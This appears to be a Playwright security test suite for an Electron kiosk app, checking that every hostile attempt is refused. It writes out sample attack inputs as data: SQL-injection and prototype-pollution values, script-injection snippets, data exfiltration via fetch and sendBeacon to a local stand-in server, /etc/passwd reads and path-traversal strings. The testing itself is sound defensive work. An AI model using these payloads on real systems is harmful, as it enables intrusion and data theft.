import { expect, test, type ElectronApplication, type Page } from '@playwright/test';
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import { z } from 'zod';
import { ADMISSION } from '#contract/ipc/channels.ts';
import { openKioskDatabase } from '../../src/main/composition/open-stores.ts';
import { openWindowAlone, PINS, type WindowAlone } from '../support/window-alone.ts';

const METHODS = Object.keys(ADMISSION);
const heldBack = METHODS.filter((name) => Reflect.get(ADMISSION, name) !== 'anyone');
const ownersOnly = METHODS.filter((name) => Reflect.get(ADMISSION, name) === 'owner');

const answers = z.record(
  z.string(),
  z.object({
    ok: z.boolean(),
    error: z
      .object({ code: z.string(), refusal: z.object({ code: z.string() }).optional() })
      .optional(),
  }),
);
const outcomes = z.record(z.string(), z.string());

let alone: WindowAlone;
let dataDir: string;
let app: ElectronApplication;
let page: Page;
let elsewhere: Server;
let elsewhereUrl: string;
/** Everything that anybody fetched from the page elsewhere. */
let visits: string[];

/** The whole database, table by table. */
function stored(): Readonly<Record<string, unknown>> {
  const database = openKioskDatabase(dataDir);
  try {
    const tables = database.all(
      z.object({ name: z.string() }),
      "SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name",
    );
    return Object.fromEntries(
      tables.map(({ name }) => [
        name,
        database.all(z.record(z.string(), z.unknown()), `SELECT * FROM "${name}"`),
      ]),
    );
  } finally {
    database.close();
  }
}

/** Runs in the page, outside of what the debugger itself is allowed. */
async function inPage(script: string): Promise<unknown> {
  return page.evaluate(`new Promise((done, fail) => setTimeout(() => {
    (async () => { ${script} })().then(done, (error) => fail(error));
  }, 0))`);
}

async function callAll(names: readonly string[], input: string): Promise<z.infer<typeof answers>> {
  const script = `
    const found = {};
    for (const name of ${JSON.stringify(names)}) found[name] = await window.kiosk[name](${input});
    return found;`;
  return answers.parse(await inPage(script));
}

/** What came of each attempt: \`got: …\` or \`refused: …\`. */
async function attempt(
  attempts: Readonly<Record<string, string>>,
): Promise<z.infer<typeof outcomes>> {
  const bodies = Object.entries(attempts).map(
    ([name, body]) => `${JSON.stringify(name)}: async () => { ${body} }`,
  );
  return outcomes.parse(
    await inPage(`
    const attempts = { ${bodies.join(',\n')} };
    const late = () => new Promise((_, no) => setTimeout(() => no(new Error('nothing came')), 1500));
    const found = {};
    for (const [name, work] of Object.entries(attempts)) {
      try { found[name] = 'got: ' + String(await Promise.race([work(), late()])); }
      catch (error) { found[name] = 'refused'; }
    }
    return found;`),
  );
}

test.beforeAll(async () => {
  visits = [];
  elsewhere = createServer((request, response) => {
    visits.push(request.url ?? '');
    response.setHeader('content-type', 'text/html');
    response.setHeader('access-control-allow-origin', '*');
    response.end(
      `<title>elsewhere</title><iframe id="ours" src="app://kiosk/index.html"></iframe><iframe id="own" srcdoc="x"></iframe>`,
    );
  });
  elsewhere.listen(0, '127.0.0.1');
  await once(elsewhere, 'listening');
  const { port } = z.object({ port: z.number() }).parse(elsewhere.address());
  elsewhereUrl = `http://127.0.0.1:${String(port)}`;
  alone = await openWindowAlone();
  ({ dataDir, app, page } = alone);
});

test.afterAll(async () => {
  await alone.close();
  elsewhere.close();
});

test('nobody signed in: every method that needs a person is refused, and nothing changes', async () => {
  const before = stored();
  const found = await callAll(heldBack, '{}');
  expect(heldBack.length).toBeGreaterThan(10);
  for (const name of heldBack) {
    expect(found[name], name).toMatchObject({
      ok: false,
      error: { refusal: { code: 'not-signed-in' } },
    });
  }
  const owner = `{ name: 'Mallory', pin: '271828', language: 'en' }`;
  expect(await callAll(['createFirstOwner'], owner)).toMatchObject({
    createFirstOwner: { ok: false, error: { refusal: { code: 'already-set-up' } } },
  });
  expect(await callAll(['signIn'], `{ personId: 'mallory', pin: '271828' }`)).toMatchObject({
    signIn: { ok: false, error: { refusal: { code: 'no-such-person' } } },
  });
  expect(stored()).toEqual(before);
});

const HOSTILE: readonly string[] = [
  'undefined',
  'null',
  '0',
  '"x".repeat(500_000)',
  '[]',
  'new Array(10_000).fill({})',
  '{ surplus: true }',
  'JSON.parse(\'{"__proto__": {"role": "owner", "polluted": true}, "surplus": 1}\')',
  '{ constructor: { prototype: { polluted: true } } }',
  '(() => { const loop = {}; loop.loop = loop; return loop; })()',
  'Object.create(null, { surplus: { value: 1, enumerable: true } })',
  'new Uint8Array(100_000)',
  `{ personId: "anna' OR 1=1 --", pin: "271828' OR 1=1 --" }`,
];

test('arguments that make no sense are refused by every method, and pollute nothing', async () => {
  const before = stored();
  for (const input of HOSTILE) {
    const found = await callAll(METHODS, input);
    for (const name of METHODS) expect(found[name]?.ok, `${name} ${input}`).toBe(false);
  }
  // What cannot be copied does not even leave the page.
  const uncopied = await attempt({
    function: 'return (await window.kiosk.getSnapshot({ run: () => 1 })).ok;',
    symbol: 'return (await window.kiosk.getSnapshot(Symbol("x"))).ok;',
  });
  for (const text of Object.values(uncopied)) expect(['refused', 'got: false']).toContain(text);
  const polluted = await app.evaluate(() => [
    Reflect.get({}, 'polluted') === undefined,
    Reflect.get({}, 'role') === undefined,
  ]);
  expect(polluted).toEqual([true, true]);
  expect(stored()).toEqual(before);
});

test('a technician gets nothing of the owner’s', async () => {
  const signedIn = await callAll(['signIn'], JSON.stringify({ personId: 'ola', pin: PINS.Ola }));
  expect(signedIn).toMatchObject({ signIn: { ok: true } });
  const before = stored();
  const found = await callAll(ownersOnly, '{}');
  expect(ownersOnly.length).toBeGreaterThan(3);
  for (const name of ownersOnly) {
    expect(found[name], name).toMatchObject({
      ok: false,
      error: { refusal: { code: 'owner-only' } },
    });
  }
  const policy = `{ settings: [{ key: 'onUnknownOutcome', text: 'capture' }] }`;
  expect(await callAll(['setSettings'], policy)).toMatchObject({
    setSettings: { ok: false, error: { refusal: { code: 'owner-only' } } },
  });
  // Anna’s being added is an owner’s affair.
  expect(await callAll(['undoChange'], '{ sequence: 1 }')).toMatchObject({
    undoChange: { ok: false, error: { refusal: { code: 'owner-only' } } },
  });
  expect(stored()).toEqual(before);
  await callAll(['signOut'], '{}');
});

test('the bridge cannot be changed, and holds nothing but what it says', async () => {
  const found = await attempt({
    overwrite: `const real = window.kiosk.signIn; try { window.kiosk.signIn = () => 1; } catch {}
      try { window.kiosk = {}; } catch {} return window.kiosk.signIn === real;`,
    names: 'return Object.keys(window.kiosk).sort().join();',
    require: 'return typeof require;',
    process: 'return typeof process;',
    module: 'return typeof module;',
    ipc: 'return typeof window.ipcRenderer + typeof window.electron;',
    // The constructor of a bridged function is the page’s own: no way to the other world.
    constructor: `return window.kiosk.getSnapshot.constructor('return typeof process')();`,
  });
  expect(found).toEqual({
    overwrite: 'got: true',
    names: `got: ${[...METHODS, 'onSnapshot'].sort().join()}`,
    require: 'got: undefined',
    process: 'got: undefined',
    module: 'got: undefined',
    ipc: 'got: undefinedundefined',
    constructor: 'refused',
  });
});

test('no script but ours runs, and nothing is fetched from anywhere', async () => {
  const before = stored();
  const inserted = (make: string): string => `
    window.ran = undefined; const script = document.createElement('script'); ${make}
    document.head.append(script);
    await new Promise((next) => setTimeout(next, 200));
    if (window.ran === undefined) throw new Error('did not run'); return window.ran;`;
  const found = await attempt({
    eval: `return eval('1 + 1');`,
    function: `return new Function('return 1')();`,
    timer: `window.ran = undefined; setTimeout('window.ran = 1', 0);
      await new Promise((next) => setTimeout(next, 200)); if (window.ran !== 1) throw 1; return 1;`,
    inline: inserted(`script.textContent = 'window.ran = 1';`),
    data: inserted(`script.src = 'data:text/javascript,window.ran=1';`),
    blob: inserted(`script.src = URL.createObjectURL(new Blob(['window.ran = 1']));`),
    remote: inserted(`script.src = '${elsewhereUrl}/script.js';`),
    handler: `window.ran = undefined; document.body.insertAdjacentHTML('beforeend', '<img id="evil" src="x" onerror="window.ran=1">');
      await new Promise((next) => setTimeout(next, 300)); document.getElementById('evil')?.remove();
      if (window.ran !== 1) throw 1; return 1;`,
    worker: `return await new Promise((yes, no) => { const worker = new Worker('data:text/javascript,postMessage(1)'); worker.onmessage = yes; worker.onerror = no; });`,
    import: `return await import('${elsewhereUrl}/module.js');`,
    fetch: `return await fetch('${elsewhereUrl}/fetched');`,
    fetchFile: `return await fetch('file:///etc/passwd');`,
    request: `return await new Promise((yes, no) => { const asked = new XMLHttpRequest(); asked.onload = yes; asked.onerror = no; asked.open('GET', '${elsewhereUrl}/xhr'); asked.send(); });`,
    socket: `return await new Promise((yes, no) => { const socket = new WebSocket('${elsewhereUrl.replace('http', 'ws')}/ws'); socket.onopen = yes; socket.onerror = no; });`,
    events: `return await new Promise((yes, no) => { const source = new EventSource('${elsewhereUrl}/events'); source.onopen = yes; source.onerror = no; });`,
    image: `return await new Promise((yes, no) => { const image = new Image(); image.onload = yes; image.onerror = no; image.src = '${elsewhereUrl}/pixel.png?secret'; });`,
    style: `const sheet = document.createElement('link'); sheet.rel = 'stylesheet'; sheet.href = '${elsewhereUrl}/style.css';
      return await new Promise((yes, no) => { sheet.onload = yes; sheet.onerror = no; document.head.append(sheet); });`,
  });
  expect(Object.entries(found).filter(([, text]) => text !== 'refused')).toEqual([]);
  // A beacon answers nothing: what counts is that it does not arrive.
  await inPage(`try { navigator.sendBeacon('${elsewhereUrl}/beacon', 'secret'); } catch {}`);
  expect(visits).toEqual([]);
  expect(stored()).toEqual(before);
});

test('the window stays where it is, alone, and opens nothing', async () => {
  const found = await attempt({
    open: `return window.open('${elsewhereUrl}/opened').closed;`,
    openOurs: `return window.open('app://kiosk/index.html').closed;`,
    frame: `const frame = document.createElement('iframe'); frame.src = '${elsewhereUrl}/framed'; document.body.append(frame);
      await new Promise((next) => setTimeout(next, 300)); const reached = frame.contentWindow.kiosk; frame.remove(); return reached.getSnapshot;`,
    frameBlank: `const frame = document.createElement('iframe'); document.body.append(frame);
      const reached = frame.contentWindow.kiosk; frame.remove(); return reached.getSnapshot;`,
  });
  expect(Object.values(found)).toEqual(Object.values(found).map(() => 'refused'));
  for (const leave of [
    `location.href = '${elsewhereUrl}/went'`,
    `location.replace('data:text/html,<h1>x</h1>')`,
    `location.assign('file:///etc/passwd')`,
    `location.href = "javascript:document.title='ran'"`,
    `(() => { const link = document.createElement('a'); link.href = '${elsewhereUrl}/link'; link.target = '_blank'; link.click(); })()`,
    `(() => { const form = document.createElement('form'); form.action = '${elsewhereUrl}/form'; form.method = 'post'; document.body.append(form); form.submit(); })()`,
    `(() => { const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=${elsewhereUrl}/meta'; document.head.append(meta); })()`,
  ]) {
    const now = await app.evaluate(async ({ BrowserWindow }, script) => {
      const contents = BrowserWindow.getAllWindows()[0]?.webContents;
      await contents?.executeJavaScript(`try { ${script}; } catch {} true`);
      await contents?.executeJavaScript('new Promise((next) => setTimeout(next, 150, true))');
      return {
        url: contents?.getURL(),
        windows: BrowserWindow.getAllWindows().length,
        title: contents?.getTitle(),
      };
    }, leave);
    expect(now, leave).toEqual({ url: 'app://kiosk/index.html', windows: 1, title: 'Vendskap' });
  }
  expect(visits).toEqual([]);
});

test('app:// gives the window’s own files only, and no permission is ever given', async () => {
  const paths = [
    '../main/index.cjs',
    '..%2fmain/index.cjs',
    '%2e%2e/main/index.cjs',
    '..%5cmain%5cindex.cjs',
    '....//main/index.cjs',
    '/etc/passwd',
    '%2fetc%2fpasswd.html',
    'index.html%00.js',
    '../../../package.json',
  ];
  const status = await app.evaluate(async ({ net }, tried) => {
    const found: string[] = [];
    for (const path of tried) {
      const answer = await net.fetch(`app://kiosk/${path}`).catch(() => undefined);
      const body = answer?.status === 200 ? await answer.text() : '';
      if (/electron|root:|"scripts"/.test(body)) found.push(path);
    }
    return found;
  }, paths);
  expect(status).toEqual([]);
  const permissions = await attempt({
    notification: `const answer = await Notification.requestPermission(); if (answer !== 'granted') throw 1; return answer;`,
    camera: 'return await navigator.mediaDevices.getUserMedia({ video: true, audio: true });',
    place: `return await new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no));`,
    clipboard: 'return await navigator.clipboard.readText();',
    serial: 'return await navigator.serial.requestPort();',
    usb: 'return await navigator.usb.requestDevice({ filters: [] });',
    hid: 'const [one] = await navigator.hid.requestDevice({ filters: [] }); return one.vendorId;',
    bluetooth: 'return await navigator.bluetooth.requestDevice({ acceptAllDevices: true });',
    screen: 'return await navigator.mediaDevices.getDisplayMedia();',
    files: 'return await window.showOpenFilePicker();',
  });
  expect(Object.entries(permissions).filter(([, text]) => text !== 'refused')).toEqual([]);
});

test('a foreign page in the window, and its frames, get no answer', async () => {
  const before = stored();
  await app.evaluate(async ({ BrowserWindow }, url) => {
    await BrowserWindow.getAllWindows()[0]?.webContents.loadURL(`${url}/`);
  }, elsewhereUrl);
  await page.waitForURL(`${elsewhereUrl}/`);
  const found = await callAll(METHODS, '{}');
  for (const name of METHODS) {
    expect(found[name], name).toMatchObject({ ok: false, error: { code: 'ipc/foreign-sender' } });
  }
  const frames = await app.evaluate(async ({ BrowserWindow }) => {
    const main = BrowserWindow.getAllWindows()[0]?.webContents.mainFrame;
    const reached: unknown[] = [];
    for (const frame of main?.frames ?? []) {
      reached.push(await frame.executeJavaScript('typeof window.kiosk'));
    }
    return reached;
  });
  expect(frames).toEqual(['undefined', 'undefined']);
  expect(stored()).toEqual(before);
});
